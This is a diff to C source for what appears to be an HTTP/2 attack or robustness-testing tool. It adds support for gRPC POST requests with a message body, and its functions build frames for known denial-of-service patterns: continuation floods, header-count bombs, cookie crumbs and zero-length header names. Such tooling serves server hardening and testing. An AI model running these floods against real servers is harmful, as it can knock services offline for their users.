@@ -22,7 +22,10 @@ enum {
     END_HEADERS = 4
 };
 
-static const uint8_t get[] = {0x82, 0x86, 0x84, 0x41, 0x01, 'x'}; /* GET http / x */
+static uint8_t get[96] = {0x82, 0x86, 0x84, 0x41, 0x01, 'x'}; /* GET http / x; or a call */
+static size_t get_len = 6;
+static uint8_t get_content[32]; /* the message of a call */
+static size_t get_content_len;
 static const uint8_t post[] = {0x83, 0x86, 0x04, 0x05, '/', 'e', 'c', 'h', 'o', 0x41, 0x01, 'x'};
 static const uint8_t ok[] = {0x88};
 static const uint8_t zeros[16384];
@@ -74,7 +77,26 @@ void attack_preface(attack_output *a)
 
 void attack_get(attack_output *a, uint32_t id)
 {
-    attack_frame(a, HEADERS, END_HEADERS | END_STREAM, id, get, sizeof get);
+    attack_frame(a, HEADERS, END_HEADERS | (get_content_len > 0 ? 0 : END_STREAM), id, get,
+                 get_len);
+    if (get_content_len > 0)
+        attack_frame(a, DATA, END_STREAM, id, get_content, get_content_len);
+}
+
+void attack_calls(const char *path, const char *message)
+{
+    static const uint8_t behind[] = {0x41, 1,   'x', 0x0f, 0x10, 0x10, 'a', 'p', 'p', 'l', 'i',
+                                     'c',  'a', 't', 'i',  'o',  'n',  '/', 'g', 'r', 'p', 'c'};
+    size_t n = strlen(path);
+
+    memcpy(get, "\x83\x86\x04", 3);
+    get[3] = (uint8_t)n;
+    memcpy(get + 4, path, n);
+    memcpy(get + 4 + n, behind, sizeof behind);
+    get_len = 4 + n + sizeof behind;
+    get_content_len = 5 + strlen(message);
+    get_content[4] = (uint8_t)strlen(message);
+    memcpy(get_content + 5, message, strlen(message));
 }
 
 void attack_credit(attack_output *a)
@@ -167,7 +189,7 @@ static void refused_streams(attack_output *a)
 static void continuation_begins(attack_output *a)
 {
     attack_frame(a, HEADERS, 0, new_stream(a), a->on_client ? ok : get,
-                 a->on_client ? sizeof ok : sizeof get);
+                 a->on_client ? sizeof ok : get_len);
 }
 
 static void continuation_flood(attack_output *a)
@@ -206,17 +228,17 @@ static void header_count_bomb(attack_output *a)
 {
     static uint8_t bytes[16384];
 
-    memcpy(bytes, get, sizeof get);
-    memset(bytes + sizeof get, 0x93, sizeof bytes - sizeof get); /* accept: */
+    memcpy(bytes, get, get_len);
+    memset(bytes + get_len, 0x93, sizeof bytes - get_len); /* accept: */
     block(a, bytes, sizeof bytes);
 }
 
 static void cookie_crumbs(attack_output *a)
 {
     static uint8_t bytes[16384];
-    size_t n = sizeof get;
+    size_t n = get_len;
 
-    memcpy(bytes, get, sizeof get);
+    memcpy(bytes, get, get_len);
     while (n + 5 <= sizeof bytes) {
         memcpy(bytes + n,
                "\x0f\x11\x02"
@@ -244,9 +266,9 @@ static void hpack_padded_integer(attack_output *a)
 static void zero_length_names(attack_output *a)
 {
     static uint8_t bytes[300];
-    size_t n = sizeof get;
+    size_t n = get_len;
 
-    memcpy(bytes, get, sizeof get);
+    memcpy(bytes, get, get_len);
     while (n + 3 <= sizeof bytes) {
         memcpy(bytes + n, "\x00\x00\x00", 3);
         n += 3;
